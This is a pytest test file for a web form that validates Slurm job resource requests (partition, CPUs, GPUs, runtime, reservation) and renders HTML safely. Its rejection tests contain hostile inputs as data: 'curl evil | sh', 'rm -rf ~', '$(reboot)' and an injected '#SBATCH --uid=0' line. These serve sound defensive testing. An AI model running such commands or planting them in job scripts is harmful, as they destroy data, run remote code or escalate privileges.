"""The resource form: choices from config + sinfo, validation, rendering."""

from __future__ import annotations

import pytest
from panhub.form import (
    EnvironmentChoice,
    FormError,
    PartitionChoice,
    ResourceRequest,
    flatten_form,
    make_environment_choices,
    make_partition_choices,
    parse_runtime,
    render_form,
    validate_options,
)
from panhub.slurm import PartitionInfo

CLUSTER = {
    "cpu": PartitionInfo("cpu", 8, 16000, 0, 720, 60, True),
    "gpu": PartitionInfo("gpu", 8, 16000, 1, 240, 60, True),
    "down": PartitionInfo("down", 8, 16000, 0, 720, 60, False),
}
PARTS = make_partition_choices(
    {"cpu": {"description": "CPU nodes", "max_cpus": 4}, "gpu": {"description": "GPU"}, "down": {}, "absent": {}},
    CLUSTER,
)  # fmt: skip
ENVS = make_environment_choices(
    {"default": {"description": "Python", "setup": ["export A=1"]}, "tomo": {"setup": "x"}}
)


def test_partition_choices_merge_config_caps_and_cluster() -> None:
    assert [
        PartitionChoice("cpu", "CPU nodes", 4, 15, 0, 720, 60),
        PartitionChoice("gpu", "GPU", 8, 15, 1, 240, 60),
    ] == PARTS


def test_admin_caps_never_raise_cluster_limits() -> None:
    [choice] = make_partition_choices({"gpu": {"max_gpus": 8, "max_minutes": 10000}}, CLUSTER)
    assert (choice.max_gpus, choice.max_minutes) == (1, 240)


def test_environment_choices() -> None:
    assert [
        EnvironmentChoice("default", "Python", ("export A=1",)),
        EnvironmentChoice("tomo", "tomo", ("x",)),
    ] == ENVS


def test_defaults_from_empty_options() -> None:
    assert validate_options({}, PARTS, ENVS) == ResourceRequest("cpu", 1, 4, 0, 60, "", "default")


def test_form_strings_are_accepted() -> None:
    form = flatten_form(
        {
            "partition": ["gpu"],
            "cpus": ["8"],
            "memory_gb": ["15"],
            "gpus": ["1"],
            "runtime": ["4:00"],
            "reservation": ["beamtime-42"],
            "environment": ["tomo"],
        }
    )
    request = validate_options(form, PARTS, ENVS)
    assert request == ResourceRequest("gpu", 8, 15, 1, 240, "beamtime-42", "tomo")
    assert validate_options(request.to_options(), PARTS, ENVS) == request


def test_json_numbers_are_accepted() -> None:
    request = validate_options(
        {"partition": "gpu", "cpus": 2, "gpus": 1, "runtime": "2"}, PARTS, ENVS
    )
    assert (request.cpus, request.gpus, request.runtime_minutes) == (2, 1, 120)


@pytest.mark.parametrize(
    "options,field,message",
    [
        ({"cpus": "5"}, "cpus", "must be from 1 to 4, not 5"),
        ({"cpus": "0"}, "cpus", "must be from 1 to 4, not 0"),
        ({"cpus": "two"}, "cpus", "must be a whole number from 1 to 4"),
        ({"cpus": "1.5"}, "cpus", "must be a whole number from 1 to 4"),
        ({"cpus": True}, "cpus", "must be a whole number"),
        ({"cpus": 2.0}, "cpus", "must be a whole number"),
        ({"cpus": "-1"}, "cpus", "must be a whole number from 1 to 4"),
        ({"cpus": "9" * 50}, "cpus", "must be a whole number from 1 to 4"),
        ({"memory_gb": "16"}, "memory_gb", "must be from 1 to 15, not 16"),
        ({"gpus": "1"}, "gpus", "partition 'cpu' has no GPUs"),
        ({"partition": "gpu", "gpus": "2"}, "gpus", "must be from 0 to 1, not 2"),
        ({"partition": "debug"}, "partition", "unknown partition 'debug'; choose one of cpu, gpu"),
        ({"partition": "down"}, "partition", "unknown partition 'down'"),
        ({"partition": ["cpu"]}, "partition", "must be text"),
        ({"runtime": "13:00"}, "runtime", "must be between 0:01 and 12:00 on partition 'cpu'"),
        ({"partition": "gpu", "runtime": "5"}, "runtime", "must be between 0:01 and 4:00"),
        ({"runtime": "0"}, "runtime", "must be between 0:01 and 12:00"),
        ({"runtime": "1:75"}, "runtime", "must be hours or hours:minutes"),
        ({"runtime": "1h; rm -rf ~"}, "runtime", "must be hours or hours:minutes"),
        ({"reservation": "r\n#SBATCH --uid=0"}, "reservation", "contains control characters"),
        ({"reservation": "a b"}, "reservation", "may hold only letters, digits"),
        ({"reservation": "$(reboot)"}, "reservation", "may hold only letters, digits"),
        ({"reservation": "x" * 65}, "reservation", "is longer than 64 characters"),
        ({"environment": "root-shell"}, "environment", "unknown environment 'root-shell'"),
        ({"cmd": "/bin/sh"}, "cmd", "is not a field of this form"),
        ({"prologue": "curl evil | sh"}, "prologue", "is not a field of this form"),
    ],
)
def test_bad_values_name_the_field(options: dict[str, object], field: str, message: str) -> None:
    with pytest.raises(FormError) as caught:
        validate_options(options, PARTS, ENVS)
    assert message in caught.value.errors[field]
    assert field in str(caught.value)


def test_every_bad_field_is_reported_at_once() -> None:
    with pytest.raises(FormError) as caught:
        validate_options({"cpus": "99", "memory_gb": "x", "exec_prefix": "sh"}, PARTS, ENVS)
    assert set(caught.value.errors) == {"cpus", "memory_gb", "exec_prefix"}


def test_no_partition_available() -> None:
    with pytest.raises(FormError, match="no partition is available"):
        validate_options({}, [], ENVS)


@pytest.mark.parametrize(
    "text,minutes",
    [("2", 120), ("0:30", 30), ("12:00", 720), ("1:5", None), ("", None), ("2h", None)],
)
def test_parse_runtime(text: str, minutes: int | None) -> None:
    assert parse_runtime(text) == minutes


def test_flatten_form_takes_first_values_and_drops_files() -> None:
    assert flatten_form({"a": ["1", "2"], "b": [], "c_file": [b"x"]}) == {"a": "1", "b": ""}  # type: ignore[list-item]


def test_render_form_prefills_previous_choice_and_escapes() -> None:
    envs = [EnvironmentChoice("default", "<b>Python</b>", ())]
    html = render_form(PARTS, envs, {"partition": "gpu", "cpus": 3, "gpus": 1})
    assert '<option value="gpu" selected>gpu: GPU</option>' in html
    assert 'name="cpus" value="3" min="1" max="8"' in html
    assert 'name="gpus" value="1" min="0" max="1"' in html
    assert "&lt;b&gt;Python&lt;/b&gt;" in html
    assert "<b>Python</b>" not in html


def test_render_form_ignores_invalid_previous_choice() -> None:
    html = render_form(PARTS, ENVS, {"partition": "gone", "cpus": 99})
    assert '<option value="cpu" selected>' in html
    assert 'name="cpus" value="1"' in html


def test_render_form_without_partitions_says_so() -> None:
    assert "No partition is available" in render_form([], ENVS)
